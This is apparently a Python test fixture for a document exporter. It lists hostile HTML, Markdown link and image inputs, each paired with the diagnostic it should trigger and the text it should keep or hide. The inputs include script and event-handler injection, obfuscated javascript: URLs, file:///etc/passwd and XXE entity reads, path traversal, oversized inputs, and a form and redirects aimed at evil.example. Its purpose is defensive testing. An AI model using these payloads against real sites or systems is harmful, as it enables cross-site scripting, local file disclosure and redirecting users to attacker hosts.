"""Hostile HTML, links and pictures."""

from __future__ import annotations

from hostile.attack import CONFIDENTIAL, Attack

from exporter.diagnostics import Problem

_HTML = Problem.HTML_DROPPED
_LINK = Problem.LINK_UNSAFE
_OUTSIDE = Problem.IMAGE_OUTSIDE
_MISSING = Problem.IMAGE_MISSING
_BROKEN = Problem.IMAGE_BROKEN
_DEAD = Problem.LINK_DEAD


HTML = [
    Attack("script", "<script>alert('坏')</script>", (_HTML,), hides=("alert(",)),
    Attack("script-inline", "甲<script>alert(1)</script>乙", (_HTML,), hides=("alert(1)",)),
    Attack(
        "script-never-closed", "甲 <b>乙</b>\n\n<style>\n* {display: none}\n</style>\n", (_HTML,)
    ),
    Attack(
        "handlers",
        '<p onclick="alert(1)">甲乙丙丁</p>\n\n<img src="" onerror=alert(2)>',
        (_HTML,),
        ("甲乙丙丁",),
        ("alert(",),
    ),
    Attack(
        "svg-script",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        (_HTML,),
        (),
        ("alert(",),
    ),
    Attack(
        "iframe-javascript",
        '<iframe src="javascript:alert(1)">内里</iframe>',
        (_LINK,),
        hides=("alert(",),
    ),
    Attack(
        "iframe-file", '<iframe src="file:///etc/passwd"></iframe>', (_LINK,), hides=("etc/passwd",)
    ),
    Attack(
        "object", '<object data="file:///etc/passwd"></object>', (_LINK,), hides=("etc/passwd",)
    ),
    Attack(
        "form",
        '<form action="https://evil.example/"><input name=a><button>按这里</button></form>',
        (_HTML,),
        ("按这里",),
        ("evil.example",),
    ),
    Attack(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        hides=("evil.example",),
    ),
    Attack("base", '<base href="https://evil.example/">', hides=("evil.example",)),
    Attack(
        "stylesheet",
        '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">',
        hides=("127.0.0.1",),
    ),
    Attack(
        "attachment", '<link rel=attachment href="file:///etc/hostname">', hides=("etc/hostname",)
    ),
    Attack(
        "style-url",
        '<p style="background:url(http://127.0.0.1:9/x.png)">有字</p>',
        (),
        ("有字",),
        ("127.0.0.1",),
    ),
    Attack(
        "style-import",
        "<style>@import url(http://127.0.0.1:9/x.css);</style>",
        (_HTML,),
        hides=("127.0.0.1",),
    ),
    Attack(
        "conditional-comment",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        hides=("alert(",),
    ),
    Attack("cdata", "<![CDATA[<script>alert(1)</script>]]>", hides=("alert(",)),
    Attack(
        "processing-instruction",
        '<?xml-stylesheet href="http://127.0.0.1:9/x"?>',
        hides=("127.0.0.1",),
    ),
    Attack(
        "doctype-entity",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n\n&e;',
        hides=("root:",),
    ),
    Attack(
        "broken-nesting", "<b><i>甲乙</b></i></p></div></table><td>丙丁</td>", (), ("甲乙", "丙丁")
    ),
    Attack("open-table", "<table><tr><td>格子里的字\n\n段落", (_HTML,), ("格子里的字",)),
    Attack(
        "huge-spans",
        "<table>" + "<tr>" + "<td colspan=1000 rowspan=1000>格</td>" * 40 + "</tr></table>",
        (),
        ("格",),
    ),
    Attack(
        "huge-start", '<ol start="99999999999999999999"><li>条目甲乙</li></ol>', (), ("条目甲乙",)
    ),
    Attack("huge-width", '<img src="data:image/png;base64,AAAA" width="99999" alt="">', (_BROKEN,)),
    Attack(
        "attributes",
        "<span " + " ".join(f"a{i}=b" for i in range(5000)) + ">属性很多</span>",
        (),
        ("属性很多",),
    ),
    Attack(
        "quotes-in-attributes",
        """<a href="https://a.example/'&quot;><script>alert(1)</script>" title='"'>链接文字</a>""",
        (),
        ("链接文字",),
        ("<script>alert",),
    ),
    Attack(
        "textarea",
        "<textarea></main><script>alert(1)</script></textarea>",
        (_HTML,),
        hides=("alert(",),
    ),
    Attack("unknown-tags", "Result<T>、<dyn Error> 与 <x:y z>", (_HTML,), ("<T>", "<dyn Error>")),
]
LINKS = [
    Attack("javascript", "[点这里看](javascript:alert(1))", (_LINK,), ("点这里看",), ("alert(1)",)),
    Attack(
        "javascript-cased",
        "[点这里看](JaVaScRiPt&colon;alert(1))",
        (_LINK,),
        ("点这里看",),
        ("alert(1)",),
    ),
    Attack(
        "javascript-tabs",
        '<a href="java&#9;script&#10;:alert(1)">点这里看</a>',
        (_LINK,),
        ("点这里看",),
        ("alert(1)",),
    ),
    Attack(
        "javascript-controls",
        '<a href="&#1;&#x200b;javascript:alert(1)">点这里看</a>',
        (_LINK,),
        ("点这里看",),
        ("alert(1)",),
    ),
    Attack(
        "javascript-reference",
        "[点这里看][坏]\n\n[坏]: <javascript:alert(1)>",
        (_LINK,),
        ("点这里看",),
        ("alert(1)",),
    ),
    Attack("javascript-picture", "![图](javascript:alert(1))", (_MISSING,)),
    Attack("vbscript", "[点这里看](vbscript:msgbox)", (_LINK,), ("点这里看",), ("msgbox",)),
    Attack(
        "data-html",
        "[点这里看](data:text/html;base64,PHNjcmlwdD4=)",
        (_LINK,),
        ("点这里看",),
        ("PHNjcmlwdD4",),
    ),
    Attack("file-link", "[点这里看](file:///etc/passwd)", (_LINK,), ("点这里看",), ("etc/passwd",)),
    Attack("credentials", "[点这里看](https://user:pass@a.example/)", (), ("点这里看",)),
    Attack(
        "broken-address", "[点这里看](http://[::1/%zz%00) [又一处](http://a b/)", (), ("点这里看",)
    ),
    Attack("long-address", f"[点这里看](https://a.example/{'x' * 20_000})", (), ("点这里看",)),
    Attack("long-bare-address", f"https://a.example/{'x).' * 9_000}", (), ("a.example",)),
    Attack(
        "anchors",
        '[甲乙](#%00) [丙丁](#../../x) [戊己](#"><script>)',
        (_DEAD,),
        ("甲乙", "丙丁", "戊己"),
    ),
    Attack("quotes", '[甲"\'乙](https://a.example/?"\'<>&amp;x=1 "题\'目")', (), ()),
]
PICTURES = [
    Attack("picture-file", "![图说](file:///etc/passwd)", (_OUTSIDE,), (), ("root:",)),
    Attack("picture-absolute", "![图说](/etc/passwd)", (_OUTSIDE,), (), ("root:",)),
    Attack("picture-above", "![图说](../secret.png)", (_OUTSIDE,), (), (CONFIDENTIAL,)),
    Attack("picture-above-encoded", "![图说](%2e%2e/secret.png)", (_OUTSIDE,), (), (CONFIDENTIAL,)),
    Attack("picture-above-backslash", r"![图说](..\\secret.png)", (_OUTSIDE,), (), (CONFIDENTIAL,)),
    Attack("picture-through-link", "![图说](link.png)", (_OUTSIDE,), (), (CONFIDENTIAL,)),
    Attack(
        "picture-through-folder", "![图说](folder/secret.png)", (_OUTSIDE,), (), (CONFIDENTIAL,)
    ),
    Attack("picture-fifo", "![图说](fifo.png)", (_MISSING,)),
    Attack("picture-device", "![图说](zero.png)", (_OUTSIDE,)),
    Attack("picture-loop", "![图说](loop.png)", (_MISSING,)),
    Attack("picture-is-folder", "![图说](.)", (_MISSING,)),
    Attack("picture-is-issue", "![图说](issue.md)", (_BROKEN,)),
    Attack("picture-option", "![图说](-o.png)\n\n![图说](--help)", (_MISSING,)),
    Attack("picture-nul", "![图说](a%00b.png)", (_MISSING,)),
    Attack("picture-long", f"![图说]({'长' * 5000}.png)", (_MISSING,)),
    Attack(
        "picture-odd-schemes",
        "![甲图](ftp://a.example/x.png) ![乙图](gopher://x) ![丙图](ldap:x)",
        (_MISSING,),
    ),
    Attack("picture-data-text", "![图说](data:text/plain,hello)", (_BROKEN,)),
    Attack(
        "picture-data-svg",
        "![图说](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='file:///etc/passwd'/%3E%3C/svg%3E)",
    ),
    Attack(
        "picture-poster",
        '<video src="https://a.example/v.mp4" poster="/etc/passwd"></video>',
        (_OUTSIDE,),
        (),
        ("root:",),
    ),
    Attack(
        "cover-file",
        "正文",
        (_OUTSIDE,),
        ("正文",),
        ("root:",),
        front="---\ncover: /etc/passwd\n---\n\n",
    ),
]
